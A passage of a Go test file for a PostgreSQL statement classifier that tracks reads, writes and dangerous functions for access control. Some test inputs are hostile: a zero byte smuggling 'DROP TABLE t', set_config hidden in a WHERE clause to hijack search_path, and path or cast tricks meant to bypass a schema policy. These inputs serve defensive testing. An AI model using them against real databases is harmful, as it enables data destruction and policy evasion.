	{name: "syntax error", sql: "SELEC 1", want: []exp{{kind: KindUnparseable}}},
	{name: "syntax error in second statement", sql: "SELECT 1; DELET FROM t", want: []exp{{kind: KindUnparseable}}},
	{name: "unterminated string", sql: "SELECT 'abc", want: []exp{{kind: KindUnparseable}}},
	{name: "zero byte", sql: "SELECT 1\x00; DROP TABLE t", want: []exp{{kind: KindUnparseable}}},

	// search_path.
	{name: "set search_path then unqualified", sql: `SET search_path TO app, "B"; SELECT * FROM t`, want: []exp{{kind: KindSet, cmd: "SET"}, {kind: KindSelect, cmd: "SELECT", reads: l("app.t", "B.t")}}},
	{name: "search_path from session setup", setup: l(`SET search_path = "$user", "Sales"`), sql: "INSERT INTO orders VALUES (1)", want: []exp{{kind: KindInsert, cmd: "INSERT", writes: l("Sales.orders")}}},
	{name: "initial path", path: l("$user", "app", "public"), sql: "SELECT * FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("app.t", "public.t")}}},
	{name: "reset search_path", path: l("app"), setup: l("SET search_path = other"), sql: "RESET search_path; SELECT * FROM t", want: []exp{{kind: KindSet, cmd: "RESET"}, {kind: KindSelect, cmd: "SELECT", reads: l("app.t")}}},
	{name: "set schema statement", sql: "SET SCHEMA 'app'; SELECT * FROM t", want: []exp{{kind: KindSet, cmd: "SET"}, {kind: KindSelect, cmd: "SELECT", reads: l("app.t")}}},
	{name: "set local search_path within query", sql: "SET LOCAL search_path = app; DELETE FROM t", want: []exp{{kind: KindSet, cmd: "SET"}, {kind: KindDelete, cmd: "DELETE", writes: l("app.t")}}},
	{name: "set local outside block does not last", setup: l("SET LOCAL search_path = app"), sql: "DELETE FROM t", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.t")}}},
	{name: "set_config search_path", sql: `SELECT set_config('search_path', 'app, "X"', false); SELECT * FROM t`, want: []exp{{kind: KindSet, cmd: "SELECT", funcs: l("set_config"), dangerous: none}, {kind: KindSelect, cmd: "SELECT", reads: l("app.t", "X.t")}}},
	{name: "set_config other setting", sql: "SELECT set_config('application_name', 'job', false)", want: []exp{{kind: KindSet, cmd: "SELECT", dangerous: none}}},
	{name: "set_config non literal", sql: "SELECT set_config('search_path', current_user, false)", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}}},
	{name: "set_config hidden in where", sql: "SELECT * FROM t WHERE set_config('search_path', 'evil', false) IS NOT NULL", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("public.t"), dangerous: l("set_config")}}},
	{name: "set_config name not literal", sql: "SELECT set_config(name, 'x', false) FROM settings", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("public.settings"), dangerous: l("set_config")}}},
	{name: "rollback undoes set", sql: "BEGIN; SET search_path = app; ROLLBACK; SELECT * FROM t", want: []exp{{kind: KindTransaction, cmd: "BEGIN"}, {kind: KindSet, cmd: "SET"}, {kind: KindTransaction, cmd: "ROLLBACK"}, {kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},
	{name: "rollback to savepoint undoes set", setup: l("BEGIN", "SAVEPOINT a", "SET search_path = app"), sql: "ROLLBACK TO a; SELECT * FROM t", want: []exp{{kind: KindTransaction, cmd: "ROLLBACK"}, {kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},
	{name: "pg_catalog listed late", setup: l("SET search_path = app, pg_catalog"), sql: "SELECT lower('x') FROM pg_class", want: []exp{{kind: KindCall, cmd: "SELECT", reads: l("app.pg_class"), funcs: l("lower")}}},
	{name: "user schema named like pg", sql: "SELECT * FROM pg_catalog.pg_roles, app.pg_things", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("pg_catalog.pg_roles", "app.pg_things")}}},

	// Temporary tables.
	{name: "temp table in same query", sql: "CREATE TEMP TABLE tmp (id int); INSERT INTO tmp SELECT id FROM src", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE", writes: l("pg_temp.tmp")}, {kind: KindInsert, cmd: "INSERT", reads: l("public.src"), writes: l("pg_temp.tmp")}}},
	{name: "temp table from session", setup: l("CREATE TEMPORARY TABLE staging AS SELECT * FROM src"), sql: "UPDATE staging SET a = 1", want: []exp{{kind: KindUpdate, cmd: "UPDATE", writes: l("pg_temp.staging")}}},
	{name: "select into temp", setup: l("SELECT * INTO TEMP scratch FROM src"), sql: "SELECT * FROM scratch", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("pg_temp.scratch")}}},
	{name: "dropped temp resolves normally", setup: l("CREATE TEMP TABLE users (id int)", "DROP TABLE users"), sql: "DELETE FROM users", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.users")}}},
	{name: "drop temp in same query", sql: "CREATE TEMP TABLE users (id int); DROP TABLE users; DELETE FROM users", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE", writes: l("pg_temp.users")}, {kind: KindDDL, cmd: "DROP TABLE", writes: l("pg_temp.users")}, {kind: KindDelete, cmd: "DELETE", writes: l("public.users")}}},
	{name: "rolled back temp is gone", setup: l("BEGIN", "CREATE TEMP TABLE users (id int)", "ROLLBACK"), sql: "DELETE FROM users", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.users")}}},
	{name: "discard temp", setup: l("CREATE TEMP TABLE users (id int)", "DISCARD TEMP"), sql: "DELETE FROM users", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.users")}}},
	{name: "on commit drop not tracked", sql: "CREATE TEMP TABLE x (id int) ON COMMIT DROP; INSERT INTO x VALUES (1)", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE", writes: l("pg_temp.x")}, {kind: KindInsert, cmd: "INSERT", writes: l("public.x")}}},
	{name: "path starting with pg_temp creates temp", setup: l("SET search_path = pg_temp, public", "CREATE TABLE w (id int)"), sql: "SELECT * FROM w", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("pg_temp.w")}}},
	{name: "renamed temp", setup: l("CREATE TEMP TABLE a (id int)", "ALTER TABLE a RENAME TO b"), sql: "SELECT * FROM a, b", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.a", "pg_temp.b")}}},
}

func relStrings(rs []Relation) []string {
	out := make([]string, 0, len(rs))
	for _, r := range rs {
		out = append(out, r.String())
	}
	return out
}

func fnStrings(fs []Function) []string {
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		out = append(out, f.String())
	}
	return out
}

func newTestClassifier(t testing.TB, opts Options) *Classifier {
	t.Helper()
	c, err := New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestCorpus(t *testing.T) {
	if len(corpus) < 80 {
		t.Fatalf("corpus has %d cases, want at least 80", len(corpus))
	}
	for _, cacheSize := range []int{0, -1} {
		c := newTestClassifier(t, Options{CacheSize: cacheSize})
		for _, tc := range corpus {
			t.Run(tc.name, func(t *testing.T) {
				// Twice: the second run is served by the cache when there is one.
				for range 2 {
					s := NewSession("alice", tc.path)
					for _, q := range tc.setup {
						stmts, err := c.Classify(s, q)
						if err != nil {
							t.Fatal(err)
						}
						for i := range stmts {
							s.Apply(&stmts[i])
						}
					}
					got, err := c.Classify(s, tc.sql)
					if err != nil {
						t.Fatal(err)
					}
					checkStatements(t, tc.sql, got, tc.want)
				}
			})
		}
	}
}

func checkStatements(t *testing.T, sql string, got []Statement, want []exp) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%q: %d statements, want %d: %+v", sql, len(got), len(want), got)
	}
	for i, w := range want {
		g := got[i]
		if g.Kind != w.kind {
			t.Errorf("%q #%d: kind %s, want %s (error %q)", sql, i, g.Kind, w.kind, g.Error)
		}
		if g.Command != w.cmd {
			t.Errorf("%q #%d: command %q, want %q", sql, i, g.Command, w.cmd)
		}
		if r := relStrings(g.Reads); !slices.Equal(r, l(w.reads...)) {
			t.Errorf("%q #%d: reads %v, want %v", sql, i, r, w.reads)
		}
		if r := relStrings(g.Writes); !slices.Equal(r, l(w.writes...)) {
			t.Errorf("%q #%d: writes %v, want %v", sql, i, r, w.writes)
		}
		if w.funcs != nil {
			if f := fnStrings(g.Functions); !slices.Equal(f, w.funcs) {
				t.Errorf("%q #%d: functions %v, want %v", sql, i, f, w.funcs)
			}
		}
		if w.dangerous != nil {
			if f := fnStrings(g.Dangerous); !slices.Equal(f, w.dangerous) {
				t.Errorf("%q #%d: dangerous %v, want %v", sql, i, f, w.dangerous)
			}
		}
		if g.Kind == KindUnparseable && g.Error == "" {
			t.Errorf("%q #%d: unparseable without error", sql, i)
		}
		if g.Kind != KindUnparseable && g.Kind != KindEmpty && strings.TrimSpace(g.Text) == "" {
			t.Errorf("%q #%d: empty text", sql, i)
		}
	}
}

// TestSearchPathCandidates: sluice does not see which relations exist, so
// an unqualified name under a path of several schemas stands for the
// relation in each of them (PostgreSQL takes the first where one exists):
// a policy allowing only public.* cannot be bypassed by a path that lists
// another schema after public.
func TestSearchPathCandidates(t *testing.T) {
	c := newTestClassifier(t, Options{})
	for _, tc := range []struct {
		name        string
		path        []string
		sql         string
		reads, writ []string
	}{
		{"one schema", l("public"), "SELECT * FROM only_secret", l("public.only_secret"), nil},
		{"two schemas", l("public", "secret"), "SELECT * FROM only_secret", l("public.only_secret", "secret.only_secret"), nil},
		{"$user, pg_catalog and pg_temp are not candidates", l("$user", "public", "pg_catalog", "pg_temp", "secret"), "SELECT * FROM t", l("public.t", "secret.t"), nil},
		{"a write", l("public", "secret"), "DELETE FROM t WHERE id = 1", nil, l("public.t", "secret.t")},
		{"qualified names are exact", l("public", "secret"), "SELECT * FROM public.t", l("public.t"), nil},
		{"catalog names", l("public", "secret"), "SELECT * FROM pg_class", l("pg_catalog.pg_class"), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st, err := c.ClassifyOne(NewSession("u", tc.path), tc.sql)
			if err != nil {
				t.Fatal(err)
			}
			if got := relNames(st.Reads); !slices.Equal(got, tc.reads) {
				t.Errorf("reads %v, want %v", got, tc.reads)
			}
			if got := relNames(st.Writes); !slices.Equal(got, tc.writ) {
				t.Errorf("writes %v, want %v", got, tc.writ)
			}
		})
	}
}

func relNames(rs []Relation) []string {
	var out []string
	for _, r := range rs {
		out = append(out, r.String())
	}
	return out
}

// TestSequenceWrites: nextval and setval change their sequence, which
// must be named by a literal for the statement to say which.
func TestSequenceWrites(t *testing.T) {
	c := newTestClassifier(t, Options{})
	for _, tc := range []struct {
		name, sql string
		path      []string
		kind      Kind
		writes    []string
	}{
		{"nextval", "SELECT nextval('orders_id_seq')", nil, KindInsert, l("public.orders_id_seq")},
		{"setval, qualified, cast", "SELECT setval('sales.orders_id_seq'::regclass, 1)", nil, KindUpdate, l("sales.orders_id_seq")},
		{"quoted name", `SELECT nextval('"Sales"."Seq"')`, nil, KindInsert, l("Sales.Seq")},
		{"unquoted name is folded", "SELECT nextval('Sales.Seq')", nil, KindInsert, l("sales.seq")},
		{"path of two schemas", "SELECT nextval('s')", l("app", "public"), KindInsert, l("app.s", "public.s")},
		{"setval in an insert", "INSERT INTO t (id) SELECT setval('t_id_seq', 5)", nil, KindUpdate, l("public.t", "public.t_id_seq")},
		{"in an insert", "INSERT INTO t (id) VALUES (nextval('t_id_seq'))", nil, KindInsert, l("public.t", "public.t_id_seq")},
		{"explained only", "EXPLAIN SELECT nextval('s')", nil, KindExplain, l("public.s")},
		{"not a literal", "SELECT nextval($1)", nil, KindDangerous, nil},
		{"an OID", "SELECT nextval(16384)", nil, KindDangerous, nil},
		{"cast to text", "SELECT nextval('s'::text)", nil, KindInsert, l("public.s")},
		{"cast that may cut the name", "SELECT nextval('public.aXX'::varchar(8))", nil, KindDangerous, nil},
		{"cast to char", "SELECT setval('s '::bpchar, 1)", nil, KindDangerous, nil},
		{"currval reads", "SELECT currval('s')", nil, KindSelect, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st, err := c.ClassifyOne(NewSession("u", tc.path), tc.sql)
			if err != nil {
				t.Fatal(err)
			}
			if st.Kind != tc.kind {
				t.Errorf("kind %s, want %s", st.Kind, tc.kind)
			}
			if got := relNames(st.Writes); !slices.Equal(got, tc.writes) {
				t.Errorf("writes %v, want %v", got, tc.writes)
			}
		})
	}
}
